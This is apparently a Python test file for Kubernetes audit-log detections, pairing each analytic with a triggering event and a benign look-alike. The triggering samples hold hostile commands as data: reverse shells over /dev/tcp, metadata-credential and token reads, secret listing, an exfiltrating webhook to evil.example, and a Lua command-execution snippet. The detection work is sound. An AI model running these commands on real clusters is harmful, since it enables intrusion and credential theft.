"""Kubernetes audit events: what raises each analytic, and what looks like it."""

from __future__ import annotations

import base64

from tests.detection.cases import TOR, Pairs, pair
from tests.detection.events import audit, eks, host_path, pod, workload

WEB = "system:serviceaccount:shop:web"
NODE = "system:node:n1"
KUBELET = "kubelet/v1.34.0 (linux/amd64) kubernetes/abc"
MASTERS = ("system:masters", "system:authenticated")


def exec_(*command: str, ns: str = "shop", user: str = "alice@acme.example", code: int = 101):
    query = "&".join(f"command={word.replace('/', '%2F').replace(' ', '+')}" for word in command)
    return audit("create", "pods/exec", ns=ns, name="api-1", user=user, code=code,
                 uri=f"/api/v1/namespaces/{ns}/pods/api-1/exec?{query}&container=api")  # fmt: skip


def binding(role: str, *subjects: tuple[str, str], kind: str = "ClusterRole"):
    return {"roleRef": {"kind": kind, "name": role}, "subjects": [{"kind": k, "name": n} for k, n in subjects]}


def role(resource: str, *verbs: str, group: str = ""):
    return {"rules": [{"apiGroups": [group], "resources": [resource], "verbs": list(verbs)}]}


def service(kind: str, port: int = 443, **selector: str):
    return {"spec": {"type": kind, "ports": [{"port": port}], "selector": selector}}


def csr(subject: bytes):
    inner = base64.b64encode(b"\x30\x10" + subject)
    pem = b"-----BEGIN CERTIFICATE REQUEST-----\n" + inner + b"\n-----END CERTIFICATE REQUEST-----\n"
    return {"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "request": base64.b64encode(pem).decode()}}


def many(count: int, verb: str, resource: str, **more):
    return [audit(verb, resource, name=f"x{i}", time=f"2026-11-02T09:30:{i:02}.000000Z", **more) for i in range(count)]


def kinds(*resources: str, verb: str = "list", **more):
    return [audit(verb, name, ns="shop", name="", **more) for name in resources]


def mirror(name: str, image: str):
    body = pod(image=image, owner="n1", kind="Node")
    body["metadata"] |= {"name": f"{name}-n1", "annotations": {"kubernetes.io/config.mirror": "x"}}
    return audit(ns="kube-system", name=f"{name}-n1", user=NODE, agent=KUBELET, body=body)


DENIED = 'users "admin" is forbidden: User "bob" cannot impersonate resource "users" in API group ""'
LISTED = ("pods", "services", "deployments", "configmaps", "serviceaccounts", "roles", "rolebindings", "ingresses",
          "jobs", "cronjobs", "daemonsets", "statefulsets")  # fmt: skip

AUDIT: Pairs = {
    "AU-0001": pair("Nobody logged in, and pods were listed", audit("list", "pods", ns="shop", name="", user="system:anonymous", ip="203.0.114.9"),
                    "A load balancer asks whether the API server is well", audit("get", "", user="system:anonymous", uri="/healthz")),
    "AU-0002": pair("A public address asks for the version without a login", audit("get", "", user="system:anonymous", uri="/version", ip="203.0.114.9"),
                    "The same from inside", audit("get", "", user="system:anonymous", uri="/version")),
    "AU-0003": pair("A role bound to anonymous callers", audit(resource="clusterrolebindings", body=binding("view", ("User", "system:anonymous"))),
                    "Discovery bound to everyone who logged in, as every cluster has it", audit(resource="clusterrolebindings", body=binding("system:discovery", ("Group", "system:authenticated")))),
    "AU-0004": pair("A service account bound to cluster-admin", audit(resource="clusterrolebindings", body=binding("cluster-admin", ("ServiceAccount", "ci"))),
                    "The same account bound to view", audit(resource="clusterrolebindings", body=binding("view", ("ServiceAccount", "ci")))),
    "AU-0005": pair("A user bound to edit in all namespaces", audit(resource="clusterrolebindings", body=binding("edit", ("User", "bob"))),
                    "A user bound to view", audit(resource="clusterrolebindings", body=binding("view", ("User", "bob")))),
    "AU-0006": pair("A role binding written by a person", audit(resource="rolebindings", ns="shop", body=binding("view", ("User", "bob"))),
                    "The same by a GitOps controller", audit(resource="rolebindings", ns="shop", user="system:serviceaccount:argocd:argocd-application-controller", body=binding("view", ("User", "bob")))),
    "AU-0007": pair("The kubelets' role changed by a person", audit("update", "clusterroles", name="system:node", body={"rules": []}),
                    "A role of one's own changed", audit("update", "clusterroles", name="shop-reader", body={"rules": []})),
    "AU-0008": pair("A workload's account writes a binding with kubectl", audit("patch", "clusterrolebindings", user=WEB, name="x"),
                    "The garbage collector removes one", audit("delete", "clusterrolebindings", user="system:serviceaccount:kube-system:generic-garbage-collector", name="x")),
    "AU-0101": pair("A privileged pod", audit(ns="shop", body=pod(securityContext={"privileged": True})),
                    "A pod that asks not to be", audit(ns="shop", body=pod(securityContext={"privileged": False}))),
    "AU-0102": pair("A pod mounts the kubelet's folder", audit(ns="shop", body=host_path("/var/lib/kubelet")),
                    "A pod mounts a data disk", audit(ns="shop", body=host_path("/data"))),
    "AU-0103": pair("A pod mounts the runtime's socket", audit(ns="ci", body=host_path("/var/run/docker.sock")),
                    "A pod mounts the application's own socket", audit(ns="ci", body=host_path("/data/app.sock"))),
    "AU-0104": pair("A pod may write the static-pod folder", audit(ns="shop", body=host_path("/etc/kubernetes/manifests")),
                    "A pod may only read it", audit(ns="shop", body=host_path("/etc/kubernetes/manifests", read_only=True))),
    "AU-0105": pair("A pod sees the node's processes", audit(ns="shop", body=pod({"hostPID": True})),
                    "A pod shares processes among its own containers", audit(ns="shop", body=pod({"shareProcessNamespace": True}))),
    "AU-0106": pair("A container may load kernel modules", audit(ns="shop", body=pod(securityContext={"capabilities": {"add": ["SYS_MODULE"]}})),
                    "A container may bind low ports", audit(ns="shop", body=pod(securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}))),
    "AU-0107": pair("A container sees all of /proc", audit(ns="shop", body=pod(securityContext={"procMount": "Unmasked"})),
                    "A container with the runtime's default confinement", audit(ns="shop", body=pod(securityContext={"seccompProfile": {"type": "RuntimeDefault"}, "runAsNonRoot": True}))),
    "AU-0108": pair("A person puts a pod into kube-system", audit(ns="kube-system", body=pod()),
                    "AKS puts one there", audit(ns="kube-system", user="aksService", groups=MASTERS, body=pod())),
    "AU-0109": pair("A repository brings hooks to the node", audit(ns="shop", body=pod({"volumes": [{"name": "g", "gitRepo": {"repository": "https://git.example/x", "directory": "a/.git/hooks"}}]})),
                    "A folder of the pod's own", audit(ns="shop", body=pod({"volumes": [{"name": "g", "emptyDir": {}}]}))),
    "AU-0201": pair("A shell in a pod", exec_("bash"), "A shell that the API server refused to open", exec_("bash", code=403)),
    "AU-0202": pair("The pod's token is printed", exec_("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                    "A log is printed", exec_("cat", "/var/log/app.log")),
    "AU-0203": pair("The cloud's metadata service is asked for credentials", exec_("curl", "http://169.254.169.254/latest/meta-data/"),
                    "A neighbour service is called", exec_("curl", "http://api.shop.svc/healthz")),
    "AU-0204": pair("A reverse shell", exec_("bash", "-c", "bash -i >%26 /dev/tcp/203.0.114.9/443 0>%261"),
                    "A health check by the shell", exec_("bash", "-c", "echo > /dev/tcp/localhost/8080")),
    "AU-0205": pair("kubectl cp out of a pod", exec_("tar", "cf", "-", "/data"), "kubectl cp into a pod", exec_("tar", "xmf", "-", "-C", "/tmp")),
    "AU-0206": pair("A debug container joins a pod", audit("patch", "pods/ephemeralcontainers", ns="shop", body={"spec": {"ephemeralContainers": [{"name": "d", "image": "busybox"}]}}),
                    "Somebody reads which there are", audit("get", "pods/ephemeralcontainers", ns="shop")),
    "AU-0207": pair("kubectl debug node/n1", audit(ns="default", name="node-debugger-n1-abcde", body=host_path("/", hostPID=True, nodeName="n1")),
                    "A pod on a chosen node with its own disk", audit(ns="default", name="debug-n1", body=host_path("/data", nodeName="n1"))),
    "AU-0208": pair("A tunnel to a database", audit("create", "pods/portforward", ns="shop", name="postgres-0", code=101),
                    "A person reads a web shop through the API server", audit("get", "services/proxy", ns="shop", name="web:80")),
    "AU-0209": pair("A shell is refused", exec_("bash", code=403), "A pod that is not there", exec_("bash", code=404)),
    "AU-0210": pair("An account is made in a pod", exec_("useradd", "-m", "eve"), "A folder's rights are set", exec_("chmod", "2775", "/data")),
    "AU-0211": pair("The pod's identity lists secrets of the API server", exec_("curl", "-sk", "https://kubernetes.default.svc/api/v1/secrets"),
                    "A neighbour's API is called", exec_("curl", "http://orders.shop.svc:8080/api/v1/orders")),
    "AU-0301": pair("All secrets of the cluster in one call", audit("list", "secrets", name="", uri="/api/v1/secrets?limit=500"),
                    "cert-manager keeps its cache of them", audit("watch", "secrets", name="", user="system:serviceaccount:cert-manager:cert-manager", agent="cert-manager-controller/v1", uri="/api/v1/secrets?watch=true")),
    "AU-0302": pair("Ten secrets within a minute", many(10, "get", "secrets", ns="shop"), "One secret ten times", [audit("get", "secrets", ns="shop", name="db") for _ in range(10)]),
    "AU-0303": pair("A workload's account reads a platform secret", audit("get", "secrets", ns="kube-system", user=WEB),
                    "An account of the platform's namespace reads its own", audit("get", "secrets", ns="kube-system", user="system:serviceaccount:kube-system:kubernetes-dashboard")),
    "AU-0304": pair("A secret read with curl", audit("get", "secrets", ns="shop", user=WEB, agent="curl/8.5.0"),
                    "A secret read by the application's own client", audit("get", "secrets", ns="shop", user=WEB, agent="web/1.2 (linux/amd64) kubernetes/abc")),
    "AU-0305": pair("A person reads a secret", audit("get", "secrets", ns="shop", name="db"),
                    "A workload reads one of its namespace", audit("get", "secrets", ns="shop", name="db", user=WEB)),
    "AU-0306": pair("A secret is refused", audit("get", "secrets", ns="shop", name="db", code=403),
                    "A workload looks for an optional secret", audit("get", "secrets", ns="shop", name="db", user=WEB, code=404)),
    "AU-0307": pair("A person changes a secret", audit("update", "secrets", ns="shop", name="db"),
                    "Its workload rotates it", audit("update", "secrets", ns="shop", name="db", user=WEB)),
    "AU-0308": pair("A token without an end", audit(resource="secrets", ns="shop", body={"type": "kubernetes.io/service-account-token"}),
                    "An ordinary secret", audit(resource="secrets", ns="shop", body={"type": "Opaque"})),
    "AU-0309": pair("A key in a ConfigMap", audit(resource="configmaps", ns="shop", body={"data": {"aws.conf": "aws_access_key_id = AKIAIOSFODNN7EXAMPLE"}}),
                    "A ConfigMap that names where the password is", audit(resource="configmaps", ns="shop", body={"data": {"app.conf": "password = ${DB_PASSWORD}"}})),
    "AU-0401": pair("A person writes CoreDNS's configuration", audit("update", "configmaps", ns="kube-system", name="coredns", body={"data": {"Corefile": "rewrite name bank.example evil.example"}}),
                    "AKS writes it", audit("update", "configmaps", ns="kube-system", name="coredns", user="aksService", groups=MASTERS)),
    "AU-0402": pair("A webhook that sends objects out of the cluster", audit(resource="mutatingwebhookconfigurations", body={"webhooks": [{"clientConfig": {"url": "https://evil.example/x"}}]}),
                    "cert-manager refreshes its certificate", audit("patch", "validatingwebhookconfigurations", name="cert-manager-webhook", user="system:serviceaccount:cert-manager:cert-manager-cainjector")),
    "AU-0403": pair("A webhook that lets pass what it cannot check", audit("patch", "validatingwebhookconfigurations", name="policy", body={"webhooks": [{"failurePolicy": "Ignore"}]}),
                    "A webhook that refuses it", audit("patch", "validatingwebhookconfigurations", name="policy", body={"webhooks": [{"failurePolicy": "Fail"}]})),
    "AU-0404": pair("An exception to a policy", audit(resource="policyexceptions", ns="shop", group="kyverno.io"),
                    "A binding that denies", audit(resource="validatingadmissionpolicybindings", body={"spec": {"validationActions": ["Deny"]}})),
    "AU-0405": pair("Pod security switched off for a namespace", audit("patch", "namespaces", ns="shop", name="shop", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
                    "Pod security made stricter", audit("patch", "namespaces", ns="shop", name="shop", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}})),
    "AU-0406": pair("A person deletes events", audit("deletecollection", "events", ns="shop", name=""),
                    "A namespace goes, and its events with it", audit("deletecollection", "events", ns="old", name="", user="system:serviceaccount:kube-system:namespace-controller")),
    "AU-0407": pair("A security sensor is deleted", audit("delete", "daemonsets", ns="falco", name="falco"),
                    "Its image is updated", audit("patch", "daemonsets", ns="falco", name="falco", body={"spec": {"template": {"spec": {"containers": [{"name": "falco", "image": "falco:2"}]}}}})),
    "AU-0408": pair("Argo CD's access rules changed by hand", audit("patch", "configmaps", ns="argocd", name="argocd-rbac-cm", body={"data": {"policy.csv": "g, eve, role:admin"}}),
                    "Another ConfigMap of Argo CD", audit("patch", "configmaps", ns="argocd", name="argocd-gpg-keys-cm")),
    "AU-0409": pair("The metrics API is handed to a Service of the shop", audit("patch", "apiservices", name="v1beta1.metrics.k8s.io", group="apiregistration.k8s.io", body={"spec": {"service": {"name": "x", "namespace": "shop"}}}),
                    "Its labels change", audit("patch", "apiservices", name="v1beta1.metrics.k8s.io", group="apiregistration.k8s.io", body={"metadata": {"labels": {"a": "b"}}})),
    "AU-0410": pair("A person brings a login key to every node", audit(resource="machineconfigs", name="99-ssh", group="machineconfiguration.openshift.io", body={"spec": {"config": {"passwd": {"users": [{"name": "core"}]}}}}),
                    "The operator renders its own", audit(resource="machineconfigs", name="rendered-worker-1", group="machineconfiguration.openshift.io", user="system:serviceaccount:openshift-machine-config-operator:machine-config-controller")),
    "AU-0501": pair("A role that allows everything", audit(resource="clusterroles", body=role("*", "*", group="*")),
                    "A role that reads pods", audit(resource="clusterroles", body=role("pods", "get", "list"))),
    "AU-0502": pair("A role that opens shells", audit(resource="clusterroles", body=role("pods/exec", "create")),
                    "A role that reads logs", audit(resource="clusterroles", body=role("pods/log", "get"))),
    "AU-0503": pair("A role that may bind any role", audit(resource="clusterroles", body=role("clusterroles", "bind", "escalate", group="rbac.authorization.k8s.io")),
                    "A role that reads roles", audit(resource="clusterroles", body=role("clusterroles", "get", "list", group="rbac.authorization.k8s.io"))),
    "AU-0504": pair("A role that writes Deployments", audit(resource="clusterroles", body=role("deployments", "create", group="apps")),
                    "A role that reads them", audit(resource="clusterroles", body=role("deployments", "get", group="apps"))),
    "AU-0505": pair("Secrets added to view for everybody", audit(resource="clusterroles", body=role("secrets", "get") | {"metadata": {"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}}),
                    "An operator's own kind added to view", audit(resource="clusterroles", body=role("kafkas", "get", group="kafka.strimzi.io") | {"metadata": {"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}})),
    "AU-0601": pair("A person mints a token of a service account", audit("create", "serviceaccounts/token", ns="shop", name="web"),
                    "A kubelet mints the token of a pod it runs", audit("create", "serviceaccounts/token", ns="shop", name="web", user=NODE, agent=KUBELET)),
    "AU-0602": pair("A service account in kube-system", audit(resource="serviceaccounts", ns="kube-system", name="backup"),
                    "The account that every namespace gets", audit(resource="serviceaccounts", ns="shop", name="default")),
    "AU-0603": pair("A certificate for system:masters is asked for", audit(resource="certificatesigningrequests", body=csr(b"system:masters")),
                    "A node asks for its own", audit(resource="certificatesigningrequests", user=NODE, agent=KUBELET, body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client-kubelet"}})),
    "AU-0604": pair("A person approves a certificate", audit("update", "certificatesigningrequests/approval", body={"status": {"conditions": [{"type": "Approved"}]}}),
                    "A person denies one", audit("update", "certificatesigningrequests/approval", body={"status": {"conditions": [{"type": "Denied"}]}})),
    "AU-0605": pair("Somebody acts as system:masters", audit("list", "pods", ns="shop", impersonatedUser={"username": "root", "groups": ["system:masters"]}),
                    "Rancher forwards the call of a user who logged in", audit("list", "pods", ns="shop", user="system:serviceaccount:cattle-system:rancher", impersonatedUser={"username": "bob"})),
    "AU-0606": pair("Acting as somebody else is refused", audit("list", "pods", ns="shop", user="bob", responseStatus={"code": 403, "message": DENIED}),
                    "An ordinary refusal", audit("list", "pods", ns="shop", user="bob", responseStatus={"code": 403, "message": 'pods is forbidden: User "bob" cannot list resource "pods"'})),
    "AU-0607": pair("A command in a pod through the kubelet", audit("create", "nodes/proxy", name="n1", uri="/api/v1/nodes/n1/proxy/run/shop/api/c?cmd=id"),
                    "Prometheus reads metrics that way", audit("get", "nodes/proxy", name="n1", user="system:serviceaccount:monitoring:prometheus-k8s", uri="/api/v1/nodes/n1/proxy/metrics/cadvisor")),
    "AU-0608": pair("The kubelet is refused", audit("get", "nodes/proxy", name="n1", code=403), "A node that is not there", audit("get", "nodes/proxy", name="n1", code=404)),
    "AU-0609": pair("A pod's token used from a public address", audit("list", "pods", ns="shop", user=WEB, ip="203.0.114.9"),
                    "A pod's token used in its cluster", audit("list", "pods", ns="shop", user=WEB, ip="10.0.0.7")),
    "AU-0610": pair("A node's credential used with kubectl", audit("list", "pods", ns="shop", user=NODE, groups=("system:nodes",)),
                    "A kubelet renews its lease", audit("update", "leases", ns="kube-node-lease", name="n1", user=NODE, agent=KUBELET)),
    "AU-0611": pair("A pod runs as a control loop", audit(ns="kube-system", body=pod({"serviceAccountName": "clusterrole-aggregation-controller"})),
                    "A pod runs as CoreDNS", audit(ns="kube-system", body=pod({"serviceAccountName": "coredns"}))),
    "AU-0612": pair("A service account linked to a cloud role", audit("patch", "serviceaccounts", ns="shop", name="web", body={"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}}}),
                    "A service account labelled", audit("patch", "serviceaccounts", ns="shop", name="web", body={"metadata": {"annotations": {"team": "shop"}}})),
    "AU-0613": pair("A person maps a role to system:masters", eks(audit("patch", "configmaps", ns="kube-system", name="aws-auth", body={"data": {"mapRoles": "- groups: [system:masters]"}})),
                    "EKS adds a node group", eks(audit("update", "configmaps", ns="kube-system", name="aws-auth", user="eks:addon-manager"))),
    "AU-0614": pair("A call from a listed address", audit("list", "pods", ns="shop", ip=TOR), "A call from the office", audit("list", "pods", ns="shop", ip="203.0.114.9")),
    "AU-0615": pair("The pipeline found the address on a Tor list", audit("list", "pods", ns="shop", p_enrichment={"tor_exit_nodes": {"sourceIPs": [{"ip": TOR}]}}),
                    "The pipeline found where the address is", audit("list", "pods", ns="shop", p_enrichment={"ipinfo_location": {"sourceIPs": [{"country": "NL"}]}})),
    "AU-0616": pair("A member of system:masters changes something", audit("patch", "deployments", ns="shop", user="ops", groups=MASTERS),
                    "Another user does", audit("patch", "deployments", ns="shop", user="ops")),
    "AU-0617": pair("A person registers a node", audit(resource="nodes", name="n9"), "A node registers itself", audit(resource="nodes", name="n1", user=NODE, agent=KUBELET)),
    "AU-0619": pair("A person turns a node's address elsewhere", audit("patch", "nodes/status", name="n1", body={"status": {"addresses": [{"type": "InternalIP", "address": "203.0.113.9"}]}}),
                    "A person adds an extended resource", audit("patch", "nodes/status", name="n1", body={"status": {"capacity": {"example.com/dongle": "4"}}})),
    "AU-0618": pair("A login provider is added", audit("patch", "oauths", name="cluster", group="config.openshift.io", body={"spec": {"identityProviders": [{"name": "x"}]}}),
                    "The login server makes an account at first login", audit(resource="users", name="bob", group="user.openshift.io", user="system:serviceaccount:openshift-authentication:oauth-openshift")),
    "AU-0701": pair("A pod's token asks what it may do", audit("create", "selfsubjectrulesreviews", user=WEB, name=""),
                    "A person asks", audit("create", "selfsubjectrulesreviews", name="")),
    "AU-0702": pair("kube-hunter calls", audit("list", "pods", ns="shop", user=WEB, agent="kube-hunter/0.6"),
                    "kubectl calls", audit("list", "pods", ns="shop", user=WEB)),
    "AU-0703": pair("Fifteen kinds of calls refused", [e | {"responseStatus": {"code": 403}} for e in kinds(*LISTED, "secrets", "nodes", "events", "leases")],
                    "One kind refused fifteen times", [audit("list", "pods", ns="shop", name="", code=403) for _ in range(15)]),
    "AU-0704": pair("A call is refused", audit("list", "pods", ns="shop", code=403), "An anonymous health check is refused", audit("get", "", user="system:anonymous", uri="/healthz", code=403)),
    "AU-0705": pair("Twelve kinds of objects listed", kinds(*LISTED), "One kind listed twelve times", kinds(*["pods"] * 12)),
    "AU-0706": pair("Ten paths tried without a login", [audit("get", "", user="system:anonymous", uri=f"/x{i}", code=403, ip="203.0.114.9") for i in range(10)],
                    "One path tried ten times", [audit("get", "", user="system:anonymous", uri="/x", code=403, ip="203.0.114.9") for _ in range(10)]),
    "AU-0707": pair("The test marker", audit(resource="configmaps", ns="default", name="seawall-test-alert"), "Another ConfigMap", audit(resource="configmaps", ns="default", name="app")),
    "AU-0801": pair("A mining image", audit(ns="shop", body=pod(image="docker.io/someone/xmrig:6")), "An image whose name has the letters", audit(ns="shop", body=pod(image="acme.example/rigging:1"))),
    "AU-0802": pair("A Job with a reverse shell", audit(resource="jobs", ns="shop", body=workload(pod(command=["bash", "-c", "bash -i >& /dev/tcp/203.0.114.9/443 0>&1"]), "Job")),
                    "A pod that waits for its database", audit(ns="shop", body=pod(command=["bash", "-c", "until (echo > /dev/tcp/db/5432); do sleep 1; done; exec app"]))),
    "AU-0803": pair("A person makes a CronJob", audit(resource="cronjobs", ns="shop", body=workload(pod(), "CronJob")),
                    "The CronJob controller makes its Job", audit(resource="jobs", ns="shop", user="system:serviceaccount:kube-system:cronjob-controller", body=workload(pod(), "Job"))),
    "AU-0804": pair("A person places a DaemonSet", audit(resource="daemonsets", ns="shop", body=workload(pod(), "DaemonSet")),
                    "AKS places an add-on", audit(resource="daemonsets", ns="kube-system", user="aksService", groups=MASTERS, body=workload(pod(), "DaemonSet"))),
    "AU-0805": pair("A container appended to a Deployment", audit("patch", "deployments", ns="shop", body=[{"op": "add", "path": "/spec/template/spec/containers/-", "value": {"name": "x", "image": "evil/x"}}]),
                    "A new version of its container", audit("patch", "deployments", ns="shop", body={"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "acme.example/app:2"}]}}}})),
    "AU-0806": pair("A kube-proxy outside kube-system", audit(resource="daemonsets", ns="default", name="kube-proxy", body=workload(pod(), "DaemonSet")),
                    "A proxy of the shop", audit(resource="deployments", ns="shop", name="shop-proxy", body=workload(pod()))),
    "AU-0807": pair("A pod asks for a control-plane node", audit(ns="shop", body=pod({"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}})),
                    "A pod asks for a node with a fast disk", audit(ns="shop", body=pod({"nodeSelector": {"disk": "ssd"}}))),
    "AU-0808": pair("A static pod that nobody knows", mirror("backdoor", "evil/x"), "The API server's static pod", mirror("kube-apiserver", "registry.k8s.io/kube-apiserver:v1.34.0")),
    "AU-0809": pair("500 replicas", audit("patch", "deployments/scale", ns="shop", body={"spec": {"replicas": 500}}), "5 replicas", audit("patch", "deployments/scale", ns="shop", body={"spec": {"replicas": 5}})),
    "AU-0810": pair("An image from a registry that forgets", audit(ns="shop", body=pod(image="ttl.sh/x:1h")), "An image from a registry in the office", audit(ns="shop", body=pod(image="10.0.0.5:5000/app:1"))),
    "AU-0811": pair("A pod mounts the cluster's keys", audit(ns="shop", body=host_path("/etc/kubernetes/pki")), "A pod mounts certificates of public authorities", audit(ns="shop", body=host_path("/etc/ssl/certs"))),
    "AU-0812": pair("A pod with attack tools", audit(ns="shop", body=pod(image="kalilinux/kali-rolling")), "A job that runs one command of a base image", audit(ns="shop", body=pod(image="busybox", command=["date"]))),
    "AU-0901": pair("The dashboard gets a public load balancer", audit(resource="services", ns="kubernetes-dashboard", name="kubernetes-dashboard", body=service("LoadBalancer")),
                    "The dashboard stays inside", audit(resource="services", ns="kubernetes-dashboard", name="kubernetes-dashboard", body=service("ClusterIP"))),
    "AU-0902": pair("Kubeflow gets a public load balancer", audit("patch", "services", ns="kubeflow", name="istio-ingressgateway", body={"spec": {"type": "LoadBalancer"}}),
                    "A gateway of the shop gets one", audit("patch", "services", ns="shop", name="gateway", body={"spec": {"type": "LoadBalancer"}})),
    "AU-0903": pair("Redis gets a public load balancer", audit(resource="services", ns="shop", name="cache", body=service("LoadBalancer", 6379)),
                    "Redis stays inside", audit(resource="services", ns="shop", name="cache", body=service("ClusterIP", 6379))),
    "AU-0904": pair("PostgreSQL open to the world", audit(resource="services", ns="shop", name="db", body=service("LoadBalancer", 5432)),
                    "PostgreSQL open to one office", audit(resource="services", ns="shop", name="db", body={"spec": {"type": "LoadBalancer", "ports": [{"port": 5432}], "loadBalancerSourceRanges": ["198.51.100.0/24"]}})),
    "AU-0905": pair("Argo CD gets a public load balancer", audit(resource="services", ns="argocd", name="argocd-server", body=service("LoadBalancer")),
                    "The shop gets one", audit(resource="services", ns="shop", name="web", body=service("LoadBalancer"))),
    "AU-0906": pair("A public load balancer", audit(resource="services", ns="shop", name="web", body=service("LoadBalancer")),
                    "An internal one", audit(resource="services", ns="shop", name="web", body=service("LoadBalancer") | {"metadata": {"annotations": {"service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"}}})),
    "AU-0907": pair("A port on every node", audit(resource="services", ns="shop", body=service("NodePort")), "A Service inside", audit(resource="services", ns="shop", body=service("ClusterIP"))),
    "AU-0908": pair("A database on a port of the node", audit(ns="shop", body=pod(ports=[{"containerPort": 5432, "hostPort": 5432}])), "A database on a port of its pod", audit(ns="shop", body=pod(ports=[{"containerPort": 5432}]))),
    "AU-0909": pair("A Service takes somebody's address", audit(resource="services", ns="shop", body={"spec": {"externalIPs": ["203.0.114.9"]}}), "A Service with none", audit(resource="services", ns="shop", body={"spec": {"externalIPs": []}})),
    "AU-0910": pair("Jenkins published by an Ingress", audit(resource="ingresses", ns="ci", body={"spec": {"rules": [{"http": {"paths": [{"backend": {"service": {"name": "jenkins"}}}]}}]}}),
                    "The shop published", audit(resource="ingresses", ns="shop", body={"spec": {"rules": [{"http": {"paths": [{"backend": {"service": {"name": "web"}}}]}}]}})),
    "AU-0911": pair("An Ingress without TLS", audit(resource="ingresses", ns="shop", body={"spec": {"rules": [{"host": "shop.example"}]}}),
                    "An Ingress with TLS", audit(resource="ingresses", ns="shop", body={"spec": {"rules": [{"host": "shop.example"}], "tls": [{"secretName": "shop"}]}})),
    "AU-0912": pair("A Service pointed at the metadata service", audit(resource="endpoints", ns="shop", name="db", body={"subsets": [{"addresses": [{"ip": "169.254.169.254"}]}]}),
                    "The endpoints controller does its work", audit("update", "endpoints", ns="shop", name="db", user="system:serviceaccount:kube-system:endpoint-controller", body={"subsets": [{"addresses": [{"ip": "10.0.0.9"}]}]})),
    "AU-0913": pair("A snippet runs Lua", audit(resource="ingresses", ns="shop", body={"metadata": {"annotations": {"nginx.ingress.kubernetes.io/server-snippet": "content_by_lua_block { os.execute('id') }"}}}),
                    "A snippet sets a header", audit(resource="ingresses", ns="shop", body={"metadata": {"annotations": {"nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers 'X-A: b';"}}})),
    "AU-1001": pair("Twenty workloads deleted in a minute", many(20, "delete", "deployments", ns="shop"), "Five deleted", many(5, "delete", "deployments", ns="shop")),
    "AU-1002": pair("Five namespaces deleted", many(5, "delete", "namespaces"), "One deleted", many(1, "delete", "namespaces")),
    "AU-1003": pair("A person deletes a backup", audit("delete", "backups", ns="velero", name="daily", group="velero.io"),
                    "Velero deletes one that is too old", audit("delete", "backups", ns="velero", name="daily", group="velero.io", user="system:serviceaccount:velero:velero")),
    "AU-1004": pair("A network policy that lets everything in", audit(resource="networkpolicies", ns="shop", body={"spec": {"podSelector": {}, "ingress": [{}]}}),
                    "A network policy that lets nothing in", audit(resource="networkpolicies", ns="shop", body={"spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})),
    "AU-1005": pair("A person deletes a Deployment", audit("delete", "deployments", ns="shop"), "The garbage collector deletes its ReplicaSet", audit("delete", "replicasets", ns="shop", user="system:serviceaccount:kube-system:generic-garbage-collector")),
    "AU-1006": pair("A person creates a ConfigMap", audit(resource="configmaps", ns="shop"), "A workload does", audit(resource="configmaps", ns="shop", user=WEB)),
    "AU-1007": pair("A volume made on the node's root", audit(resource="persistentvolumes", name="pv", body={"spec": {"hostPath": {"path": "/"}}}), "A volume of a storage class", audit(resource="persistentvolumes", name="pv", body={"spec": {"csi": {"driver": "disk.csi.azure.com"}}})),
}  # fmt: skip
